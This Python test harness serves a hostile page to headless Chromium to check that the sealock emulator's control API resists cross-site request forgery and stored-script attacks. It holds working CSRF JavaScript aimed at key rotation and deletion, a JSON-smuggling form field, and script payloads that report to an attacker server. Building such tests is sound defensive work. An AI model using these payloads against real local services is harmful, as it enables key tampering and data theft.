"""Serves hostile pages, opens them in a headless Chromium, and checks the emulator's state.

The emulator is on localhost:PORT. The pages lie on another port of localhost, which for a browser is the same site as the
emulator, and on evil.test, which is not; Chromium is told that this is 127.0.0.1. Each page makes every request that a page
can make, of each kind for which browsers have rules of their own, and reports what it could read. The emulator's log says
what arrived, so that nothing passes here only because it was never sent.
"""

import hashlib
import http.client
import http.server
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time

DEADLINE = 60
STATUS = "/_sealock/v1/status"
ROTATE = "/_sealock/v1/vaults/sealock/keys/registry-key/rotate"
KEY = "/_sealock/v1/vaults/sealock/keys/registry-key"
HOSTS = ("localhost", "127.0.0.1", "page.localhost")

# `read` collects what the page could read. A request that throws is refused as it should be.
PAGE = """<!doctype html><meta charset=utf-8><title>attack</title><body><script>
const targets = TARGETS, read = [], wait = milliseconds => new Promise(done => setTimeout(done, milliseconds));
const STATUS = "%s", ROTATE = "%s", KEY = "%s";
async function ask(what, url, options) {
    try {
        const answer = await fetch(url, options);
        const text = await answer.text();
        if (text) read.push(what + " " + url + ": " + text.slice(0, 200));
    } catch {}
}
function frame(url) {
    const frame = document.createElement("iframe");
    frame.name = "frame" + document.querySelectorAll("iframe").length;
    frame.src = url;
    document.body.append(frame);
    return frame;
}
function submit(method, url, enctype) {
    const form = document.createElement("form"), input = document.createElement("input");
    Object.assign(form, {method, action: url, enctype, target: frame("about:blank").name});
    Object.assign(input, {type: "hidden", name: '{"enabled":false,"x":"', value: '"}'});
    form.append(input);
    document.body.append(form);
    form.submit();
}
function load(tag, attribute, url) {
    const element = document.createElement(tag);
    element[attribute] = url;
    if (tag == "link") element.rel = "stylesheet";
    document.body.append(element);
}
async function attack() {
    for (const target of targets) {
        for (const mode of ["cors", "no-cors"]) {
            await ask(mode, target + STATUS, {mode});
            await ask(mode, target + ROTATE, {mode, method: "POST"});
            await ask(mode, target + ROTATE, {mode, method: "POST", body: "{}", referrerPolicy: "no-referrer"});
            await ask(mode, "/redirect?" + target + STATUS, {mode});
            await ask(mode, "/redirect?" + target + ROTATE, {mode, method: "POST"});
        }
        for (const [method, path] of [["PATCH", KEY], ["DELETE", KEY], ["PUT", "/_sealock/v1/vaults/evil"]])
            await ask(method, target + path, {method, body: method == "PATCH" ? '{"enabled":false}' : undefined});
        await ask("sandbox", target + STATUS, {credentials: "include"});
        for (const enctype of ["text/plain", "application/x-www-form-urlencoded"]) {
            submit("post", target + ROTATE, enctype);
            submit("post", "/redirect?" + target + ROTATE, enctype);
        }
        submit("get", target + STATUS);
        for (const [tag, attribute] of [["img", "src"], ["script", "src"], ["link", "href"], ["embed", "src"], ["video", "src"]])
            load(tag, attribute, target + STATUS);
        navigator.sendBeacon(target + ROTATE, "{}");
        frame(target + STATUS);
        frame("/redirect?" + target + STATUS);
        const opaque = frame("about:blank");
        opaque.sandbox = "allow-scripts allow-forms";
        opaque.srcdoc = `<form method=post action="${target}${ROTATE}"></form><script>
            fetch("${target}${STATUS}", {mode: "no-cors"}); fetch("${target}${ROTATE}", {mode: "no-cors", method: "POST"});
            document.forms[0].submit()</` + "script>";
    }
    await wait(2000);
    for (const frame of document.querySelectorAll("iframe")) {
        try {
            const text = frame.contentDocument && frame.contentDocument.body.textContent;
            if (text) read.push("frame " + frame.src + ": " + text.slice(0, 200));
        } catch {}
    }
    await fetch("/report", {method: "POST", body: JSON.stringify(read)});
}
attack();
</script>""" % (STATUS, ROTATE, KEY)


class Site(http.server.ThreadingHTTPServer):
    """The attacker's server: the page, redirects to the query's URL, and the page's report."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.targets = []
        self.reports = {}
        self.calls = []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def handle_error(self, *_):
        """A closed browser disconnects during an answer."""


def script(site, name):
    """A script that calls the attacker if a browser runs it."""
    return f"<script>new Image().src = 'http://localhost:{site.server_address[1]}/call?{name}'</script>"


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path, _, target = self.path.partition("?")
        if path == "/redirect":
            self.answer(307, b"", {"Location": target})
        elif path == "/leave":
            page = f"<script>location = {json.dumps(target)}</script>"
            self.answer(200, page.encode(), {"Content-Type": "text/html"})
        elif path == "/call":
            self.server.calls.append(target)
            self.answer(204, b"", {})
        elif path == "/script":
            self.answer(200, script(self.server, "attacker").encode(), {"Content-Type": "text/html"})
        elif path == "/page":
            page = PAGE.replace("TARGETS", json.dumps(self.server.targets))
            self.answer(200, page.encode(), {"Content-Type": "text/html"})
        else:
            self.answer(404, b"", {})

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.path == "/report":
            self.server.reports[self.headers["Host"].partition(":")[0]] = json.loads(body)
            self.answer(200, b"", {})
        else:
            self.do_GET()

    def answer(self, status, body, headers):
        self.send_response(status)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class Emulator:
    def __init__(self, work):
        self.log = work / "emulator.log"
        ready = work / "ready.json"
        with self.log.open("w") as log:
            command = [os.environ["SEALOCK"], "serve", "--listen", "127.0.0.1:0", "--ready-file", ready]
            self.process = subprocess.Popen(
                [*command, "--data-dir", work / "data"], stdin=subprocess.DEVNULL, stdout=log, stderr=log, cwd=work
            )
        deadline = time.monotonic() + DEADLINE
        while not ready.exists():
            if self.process.poll() is not None or time.monotonic() > deadline:
                sys.exit(f"the emulator does not start:\n{self.log.read_text()}")
            time.sleep(0.05)
        self.port = int(json.loads(ready.read_text())["address"].rpartition(":")[2])

    def ask(self, method, path, body=None, headers=None):
        """Sends a request without a browser."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=DEADLINE)
        connection.request(method, path, body, headers or {})
        answer = connection.getresponse()
        return answer.status, answer.read()

    def state(self):
        paths = ["vaults", "vaults/sealock/keys", "vaults/sealock/access", "identities", "registries"]
        return [self.ask("GET", f"/_sealock/v1/{path}") for path in paths]

    def requests(self, since):
        """Method, host, path and status of each request that arrived."""
        lines = self.log.read_text()[since:].splitlines()
        found = [re.search(r"method=(\S+) host=(\S+) path=(\S+) status=(\d+)", line) for line in lines]
        return [(it[1], it[2], it[3], int(it[4])) for it in found if it]

    def control_requests(self, since):
        return [request for request in self.requests(since) if request[2].startswith("/_sealock/")]


class Browser:
    def __init__(self, work):
        self.work = work
        self.runs = 0

    def command(self, url, *options):
        # Each run has a new profile.
        self.runs += 1
        profile = self.work / f"profile{self.runs}"
        return [
            "chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
            f"--user-data-dir={profile}", "--host-resolver-rules=MAP evil.test 127.0.0.1",
            # The browser asks the user whether a page may connect to this machine. Assume yes.
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,HttpsUpgrades",
            *options, url,
        ]  # fmt: skip

    def open(self, url, until):
        """Keeps `url` open until `until` returns a true value, and returns that."""
        quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
        chromium = subprocess.Popen(self.command(url), **quiet)
        deadline = time.monotonic() + DEADLINE
        try:
            while not (found := until()) and time.monotonic() < deadline:
                time.sleep(0.05)
            return found
        finally:
            chromium.terminate()
            chromium.wait(DEADLINE)

    def shown(self, url):
        """The text that a user sees at `url`."""
        command = self.command(url, "--dump-dom", "--timeout=10000")
        shown = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=DEADLINE)
        return shown.stdout


failures = []


def check(name, passed, detail=""):
    print("ok" if passed else "FAILED", f"browser: {name}", flush=True)
    if not passed:
        failures.append(name)
        print(f"    {str(detail)[:2000]}", flush=True)


def stored_script(emulator, browser, site):
    """A pushed script runs nowhere."""
    ran = browser.open(f"http://localhost:{site.server_address[1]}/script", lambda: site.calls)
    check("Chromium runs the attacker's own script", ran == ["attacker"], ran)

    def manifest(media_type, name):
        note = {"note": script(site, name)}
        return json.dumps({"schemaVersion": 2, "mediaType": media_type, "manifests": [], "annotations": note})

    def put(media_type, name):
        headers = {"Content-Type": media_type}
        return emulator.ask("PUT", f"/v2/app/manifests/{name}", manifest(media_type, name).encode(), headers)

    status, answer = put("text/html", "html")
    check("a manifest of the type text/html is refused", status == 400 and b"MANIFEST_INVALID" in answer, answer)
    # An OCI manifest is not served to a browser, which does not accept its type.
    status, answer = put("application/vnd.docker.distribution.manifest.list.v2+json", "list")
    check("one of a known type is accepted", status == 201, answer)
    listed = "sha256:" + hashlib.sha256(manifest("application/vnd.docker.distribution.manifest.list.v2+json", "list").encode()).hexdigest()
    blob = script(site, "blob").encode()
    digest = "sha256:" + hashlib.sha256(blob).hexdigest()
    status, answer = emulator.ask("POST", f"/v2/app/blobs/uploads/?digest={digest}", blob)
    check("a blob that is a script is accepted", status == 201, answer)
    for path in ["manifests/html", f"manifests/{listed}", f"blobs/{digest}"]:
        site.calls.clear()
        since = emulator.log.stat().st_size
        asked = browser.open(f"http://localhost:{emulator.port}/v2/app/{path}", lambda: settled(emulator, since))
        check(f"Chromium asks for {path[:16]} and runs no script of it", asked and not site.calls, (asked, site.calls))


def settled(emulator, since):
    """The requests that arrived, after a browser had time to render an answer."""
    if emulator.requests(since):
        time.sleep(1)
    return emulator.requests(since)


def hostile_pages(emulator, browser, site):
    site.targets = [f"http://{host}:{emulator.port}" for host in HOSTS]
    port = site.server_address[1]
    before = emulator.state()
    for host in ["localhost", "evil.test", "127.0.0.1"]:
        since = emulator.log.stat().st_size
        browser.open(f"http://{host}:{port}/page", lambda: host in site.reports)
        read = site.reports.get(host)
        check(f"a page of {host} reads nothing", read == [], read)
        requests = emulator.control_requests(since)
        reached = {(method, at) for method, at, _, _ in requests}
        wanted = {(method, f"{at}:{emulator.port}") for method in ["GET", "POST", "OPTIONS"] for at in HOSTS}
        check(f"its {len(requests)} requests reached the emulator", wanted <= reached, wanted - reached)
        served = [request for request in requests if request[3] != 403]
        check("each of them was refused", not served, served)

    # A page that redirects its visitor to a page that users may open.
    for host in ["localhost", "evil.test"]:
        for target in site.targets:
            since = emulator.log.stat().st_size
            url = f"http://{host}:{port}/leave?{target}{STATUS}"
            browser.open(url, lambda: emulator.control_requests(since))
            statuses = [status for _, _, _, status in emulator.control_requests(since)]
            check(f"a page of {host} that leads to {target} is refused", statuses == [403], statuses)
    check("nothing was changed", emulator.state() == before, emulator.state())


def the_page(emulator, browser):
    shown = browser.shown(f"http://page.localhost:{emulator.port}/")
    check("page.localhost says that it has no page yet", "no page yet" in shown, shown)
    shown = browser.shown(f"http://page.localhost:{emulator.port}{STATUS}")
    check("a person may open the control API there", "available" in shown, shown)


def main():
    work = pathlib.Path(tempfile.mkdtemp(prefix="sealock-browser."))
    emulator = Emulator(work)
    try:
        browser = Browser(work)
        site = Site()
        stored_script(emulator, browser, site)
        hostile_pages(emulator, browser, site)
        the_page(emulator, browser)
    finally:
        emulator.process.terminate()
        emulator.process.wait(DEADLINE)
        shutil.rmtree(work, ignore_errors=True)
    print(f"{len(failures)} failed")
    sys.exit(bool(failures))


main()
